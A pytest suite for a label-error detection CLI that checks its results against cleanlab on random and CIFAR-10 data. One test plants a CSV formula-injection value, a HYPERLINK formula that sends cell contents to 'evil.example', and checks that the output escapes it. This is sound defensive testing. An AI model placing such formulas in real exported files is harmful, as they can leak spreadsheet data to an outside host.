"""``labelqa label-errors`` (analytics/commands/label_errors.py), in process, against cleanlab 2.9's
``find_label_issues`` on a random example and on the released CIFAR-10 test-set scores."""
import csv
import json
import pathlib
import warnings

import numpy as np
import pandas as pd
import pytest

from analytics.cli import main
from analytics.metrics.label_errors import FILTERS, RANKINGS

cleanlab_filter = pytest.importorskip("cleanlab.filter")
DATA = pathlib.Path(__file__).resolve().parents[1] / ".." / "shared" / "datasets" / "cifar10_label_errors"
CIFAR = ["airplane", "automobile", "bird", "cat", "deer", "dog", "frog", "horse", "ship", "truck"]
CIFAR_COUNTS = {"prune_by_noise_rate": 284, "prune_by_class": 284, "both": 226, "predicted_neq_given": 706}


def _ref(y, p, f):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return cleanlab_filter.find_label_issues(y, p, filter_by=f, n_jobs=1)


def _run(capsys, *argv):
    code = main(["label-errors", *map(str, argv)])
    out, err = capsys.readouterr()
    return code, out, err


def _doc(capsys, *argv):
    code, out, err = _run(capsys, *argv, "--json")
    assert code == 0, err
    return json.loads(out)


def _write(df: pd.DataFrame, path: pathlib.Path) -> pathlib.Path:
    if path.suffix == ".parquet":
        df.to_parquet(path, index=False)
    elif path.suffix == ".jsonl":
        df.to_json(path, orient="records", lines=True, double_precision=15)
    else:
        df.to_csv(path, index=False)
    return path


def _random(seed=3, n=400, k=5, noise=0.25):
    rng = np.random.default_rng(seed)
    true = rng.integers(0, k, n)
    logits = rng.normal(size=(n, k)) * 1.5
    logits[np.arange(n), true] += 2.0
    p = np.exp(logits)
    p /= p.sum(axis=1, keepdims=True)
    y = np.where(rng.random(n) < noise, rng.integers(0, k, n), true)
    return y, p


def _files(tmp_path, y, p, names, ids=None, ext=".csv", layout="wide"):
    ids = [f"it{i:04d}" for i in range(len(y))] if ids is None else ids
    labels = pd.DataFrame({"item_id": ids, "label": np.asarray(names, dtype=object)[y]})
    wide = pd.DataFrame(p, columns=[f"prob_{c}" for c in names])
    wide.insert(0, "item_id", ids)
    if layout == "wide":
        scores = wide
    else:
        scores = wide.melt(id_vars="item_id", var_name="label", value_name="score")
        scores["label"] = scores["label"].str[5:]
    return (_write(labels, tmp_path / f"labels{ext}"), _write(scores, tmp_path / f"scores_{layout}{ext}"), ids)


@pytest.fixture
def small(tmp_path):
    y, p = _random()
    names = [f"c{j}" for j in range(p.shape[1])]  # sorted order == index order
    lab, sc, ids = _files(tmp_path, y, p, names)
    return y, p, lab, sc, np.asarray(ids)


@pytest.mark.parametrize("filter_by", FILTERS)
def test_random_flags_equal_cleanlab(small, capsys, filter_by):
    y, p, lab, sc, ids = small
    doc = _doc(capsys, "--labels", lab, "--scores", sc, "--filter-by", filter_by)
    ref = _ref(y, p, filter_by)
    assert 0 < ref.sum() < len(y)
    assert {r["item_id"] for r in doc["issues"]} == set(ids[ref])
    assert doc["n_items"] == len(y) and doc["n_issues"] == int(ref.sum())
    for j, c in enumerate(f"c{j}" for j in range(p.shape[1])):
        pc = doc["per_class"][c]
        assert pc["n"] == int((y == j).sum()) and pc["n_issues"] == int(ref[y == j].sum())
        assert pc["share"] == pytest.approx(pc["n_issues"] / pc["n"])


@pytest.mark.parametrize("rank_by", RANKINGS)
def test_random_ranking_equals_cleanlab(small, capsys, rank_by):
    y, p, lab, sc, ids = small
    doc = _doc(capsys, "--labels", lab, "--scores", sc, "--rank-by", rank_by)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ref = cleanlab_filter.find_label_issues(y, p, n_jobs=1, return_indices_ranked_by=rank_by)
    assert [r["item_id"] for r in doc["issues"]] == list(ids[ref])
    scores = [r["score"] for r in doc["issues"]]
    assert scores == sorted(scores)
    for r in doc["issues"]:
        i = int(r["item_id"][2:])
        other = np.delete(p[i], y[i])
        assert r["given_label"] == f"c{y[i]}" and r["suggested_label"] == f"c{np.delete(np.arange(5), y[i])[other.argmax()]}"


@pytest.mark.parametrize("ext", [".csv", ".parquet", ".jsonl"])
def test_long_and_wide_give_identical_output(tmp_path, capsys, ext):
    y, p = _random(seed=11, n=150, k=4)
    names = ["cat", "dog", "fox", "owl"]
    lab, wide, _ = _files(tmp_path, y, p, names, ext=ext, layout="wide")
    _, long, _ = _files(tmp_path, y, p, names, ext=ext, layout="long")
    for extra in ([], ["--filter-by", "both", "--rank-by", "normalized_margin"]):
        a = _run(capsys, "--labels", lab, "--scores", wide, *extra)
        b = _run(capsys, "--labels", lab, "--scores", long, *extra)
        assert a == b and a[0] == 0
        assert "per given label:" in a[1] and "likely label error(s)" in a[1]
        ja, jb = _doc(capsys, "--labels", lab, "--scores", wide, *extra), _doc(capsys, "--labels", lab, "--scores", long, *extra)
        assert ja == jb and ja["n_issues"] > 0
    # top-k long: dropping the smallest scores (treated as 0) keeps the file valid
    lf = pd.read_csv(long, dtype={"item_id": str}) if ext == ".csv" else (
        pd.read_parquet(long) if ext == ".parquet" else pd.read_json(long, lines=True, dtype=False))
    topk = lf[lf.groupby("item_id")["score"].rank(ascending=False) <= 2]
    code, out, err = _run(capsys, "--labels", lab, "--scores", _write(topk, tmp_path / f"topk{ext}"))
    assert code == 0, err


def test_summary_lists_classes_and_top_20(small, capsys):
    y, p, lab, sc, ids = small
    code, out, _ = _run(capsys, "--labels", lab, "--scores", sc)
    ref = _ref(y, p, "prune_by_noise_rate")
    assert code == 0
    assert f"{len(y)} items, 5 classes, {int(ref.sum())} likely label error(s)" in out
    for j in range(5):
        row = next(line for line in out.splitlines() if line.split()[:1] == [f"c{j}"])
        assert row.split()[1:3] == [str(int((y == j).sum())), str(int(ref[y == j].sum()))]
    ranked = [line.split()[1] for line in out.split("top 20 of")[1].splitlines()[2:]]
    doc = _doc(capsys, "--labels", lab, "--scores", sc)
    assert ranked == [r["item_id"] for r in doc["issues"][:20]]


def test_out_csv_round_trips_and_escapes_formulas(tmp_path, capsys):
    y, p = _random(seed=5, n=200, k=3)
    ids = [f"it{i}" for i in range(len(y))]
    q = p[np.arange(len(y)), y]
    worst = int(np.argmin(q))  # lowest self-confidence: flagged and ranked first
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    ids[worst] = hostile
    ids[(worst + 1) % len(y)] = "@SUM(1+1)"
    lab, sc, _ = _files(tmp_path, y, p, ["a", "b", "c"], ids=ids)
    out = tmp_path / "issues.csv"
    code, stdout, err = _run(capsys, "--labels", lab, "--scores", sc, "--out", out)
    assert code == 0, err
    assert f"wrote {out}" in stdout
    doc = _doc(capsys, "--labels", lab, "--scores", sc)
    assert doc["issues"][0]["item_id"] == hostile
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["item_id", "given_label", "suggested_label", "score"]
    assert rows[1][0] == "'" + hostile  # shown as text by spreadsheets
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    back = pd.read_csv(out, dtype={"item_id": str, "given_label": str, "suggested_label": str})
    back["item_id"] = back["item_id"].map(lambda s: s[1:] if s.startswith("'") else s)
    assert back.to_dict("records") == doc["issues"]


@pytest.fixture(scope="module")
def cifar_files(tmp_path_factory):
    if not DATA.exists():
        pytest.skip("../shared/datasets/cifar10_label_errors is absent")
    p = np.load(DATA / "cifar10_test_set_pyx.npy")
    y = np.load(DATA / "cifar10_test_set_original_labels.npy").astype(np.int64)
    mturk = json.loads((DATA / "cifar10_mturk.json").read_text())
    assert all(CIFAR[m["given_original_label"]] == m["given_original_label_name"] for m in mturk)
    lab, sc, _ = _files(tmp_path_factory.mktemp("cifar"), y, p, CIFAR, ids=[str(i) for i in range(len(y))])
    return y, p, mturk, lab, sc


@pytest.mark.parametrize("filter_by", FILTERS)
def test_cifar10_cli_equals_cleanlab(cifar_files, capsys, filter_by):
    y, p, mturk, lab, sc = cifar_files
    doc = _doc(capsys, "--labels", lab, "--scores", sc, "--filter-by", filter_by)
    ref = _ref(y, p, filter_by)
    assert doc["n_items"] == 10000
    assert doc["n_issues"] == int(ref.sum()) == CIFAR_COUNTS[filter_by]
    assert {int(r["item_id"]) for r in doc["issues"]} == set(np.flatnonzero(ref).tolist())
    assert sum(c["n_issues"] for c in doc["per_class"].values()) == CIFAR_COUNTS[filter_by]
    # precision of the flags on the human-checked images: confirmed = fewer than 3 of 5 MTurk workers chose
    # the given label alone (the criterion tests/test_label_errors.py documents: 54 confirmed of 275 checked)
    checked = {m["id"]: m["mturk"]["given"] < 3 for m in mturk}
    seen = [int(r["item_id"]) for r in doc["issues"] if int(r["item_id"]) in checked]
    tp = sum(checked[i] for i in seen)
    assert 0 < tp <= len(seen) and sum(checked.values()) == 54
    with capsys.disabled():
        print(f"\n  labelqa label-errors CIFAR-10 {filter_by}: flagged={doc['n_issues']} "
              f"human-checked={len(seen)} confirmed={tp} precision_on_checked={tp / len(seen):.3f} "
              f"recall_of_confirmed={tp / 54:.3f}")


def _err(capsys, *argv):
    code, out, err = _run(capsys, *argv)
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1
    return err.strip()


def _pair(tmp_path, labels: str, scores: str, ext=".csv"):
    (tmp_path / "l.csv").write_text(labels)
    (tmp_path / f"s{ext}").write_text(scores)
    return ["--labels", tmp_path / "l.csv", "--scores", tmp_path / f"s{ext}"]


LABELS = "item_id,label\na,x\nb,y\nc,x\n"


@pytest.mark.parametrize("scores, expect", [
    ("item_id,prob_x,prob_y\na,.9,.1\nb,.2,.8\nc,.5,.5\nzz,.5,.5\n", ["row 4 (line 5)", "'item_id'", "'zz'", "not in the labels"]),
    ("item_id,prob_x,prob_y\na,.9,.1\nb,.2,.8\n", ["l.csv row 3", "'item_id'", "'c'", "no scores"]),
    ("item_id,prob_x,prob_y\na,.9,.1\nb,.3,.8\nc,.5,.5\n", ["row 2", "prob_x..prob_y", "sum to 1.1", "more than 1"]),
    ("item_id,prob_x,prob_y\na,.9,.1\nb,.2,.7\nc,.5,.5\n", ["row 2", "sum to 0.9", "not 1"]),
    ("item_id,prob_x,prob_y\na,.9,.1\nb,1.2,-.2\nc,.5,.5\n", ["row 2", "'prob_y'", "negative"]),
    ("item_id,prob_x,prob_y\na,.9,.1\nb,high,.2\nc,.5,.5\n", ["row 2", "'prob_x'", "'high' is not a number"]),
    ("item_id,prob_x,prob_y\na,.9,.1\nb,,.2\nc,.5,.5\n", ["row 2", "'prob_x'", "missing"]),
    ("item_id,prob_x\na,1\nb,1\nc,1\n", ["l.csv row 2", "'label'", "'y' is absent", "no column"]),
    ("item_id,label,score\na,x,1\nb,x,1\nc,x,1\n", ["l.csv row 2", "'y' is absent", "no score rows"]),
    ("item_id,label,score\na,x,.9\na,y,.2\nb,y,1\nc,x,1\n", ["row 1", "'score'", "sum to 1.1"]),
    ("item_id,label,score\na,x,.9\na,x,.1\nb,y,1\nc,x,1\n", ["row 2", "second score"]),
    ("item_id,label\na,x\n", ["s.csv", "missing column 'score'"]),
    ("item_id\na\n", ["s.csv", "only item_id"]),
    ("id,prob_x,prob_y\na,1,0\n", ["s.csv", "missing column 'item_id'"]),
    ("item_id,prob_x,y\na,1,0\n", ["s.csv", "column 'y'", "prob_<label>"]),
])
def test_error_cases_exit_2(tmp_path, capsys, scores, expect):
    msg = _err(capsys, *_pair(tmp_path, LABELS, scores))
    assert msg.startswith("labelqa label-errors: error:")
    for e in expect:
        assert e in msg, msg


def test_label_file_errors(tmp_path, capsys):
    sc = "item_id,prob_x,prob_y\na,.9,.1\nb,.2,.8\n"
    assert "'label'" in _err(capsys, *_pair(tmp_path, "item_id,class\na,x\n", sc))
    msg = _err(capsys, *_pair(tmp_path, "item_id,label\na,x\na,y\n", sc))
    assert "l.csv row 2" in msg and "labelled twice" in msg
    msg = _err(capsys, *_pair(tmp_path, "item_id,label\na,x\nb,\n", sc))
    assert "l.csv row 2" in msg and "empty label" in msg
    assert "not found" in _err(capsys, "--labels", tmp_path / "nope.csv", "--scores", tmp_path / "s.csv")
    assert "unknown format" in _err(capsys, *_pair(tmp_path, "item_id,label\na,x\nb,y\n", sc, ext=".xlsx"))
    msg = _err(capsys, *_pair(tmp_path, "item_id,label\na,x\nb,y\n",
                              '{"item_id": "a", "label": "x", "score": 1}\n{"item_id": "b", "label": "y", "score": -1}\n',
                              ext=".jsonl"))
    assert "s.jsonl row 2, column 'score'" in msg and "negative" in msg


def test_json_and_out_are_exclusive(small, capsys, tmp_path):
    _, _, lab, sc, _ = small
    with pytest.raises(SystemExit) as e:
        main(["label-errors", "--labels", str(lab), "--scores", str(sc), "--json", "--out", str(tmp_path / "x.csv")])
    assert e.value.code == 2
